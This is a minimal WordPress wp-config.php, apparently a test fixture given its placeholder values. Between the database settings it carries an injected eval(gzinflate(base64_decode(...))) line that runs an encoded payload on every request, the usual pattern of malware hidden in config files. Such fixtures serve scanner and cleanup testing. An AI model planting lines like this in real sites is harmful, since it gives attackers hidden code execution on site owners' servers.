<?php
define('DB_NAME', 'before'); define('DB_USER', 'before');
eval(gzinflate(base64_decode('S0lNy8xL1VBycYoPcAwODvcPclHSUVDKyExJSc1T0rQGAA==')));
define('DB_PASSWORD', 'p'); define('DB_HOST', 'h');
$table_prefix = 'wp_';

if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}
require_once ABSPATH . 'wp-settings.php';
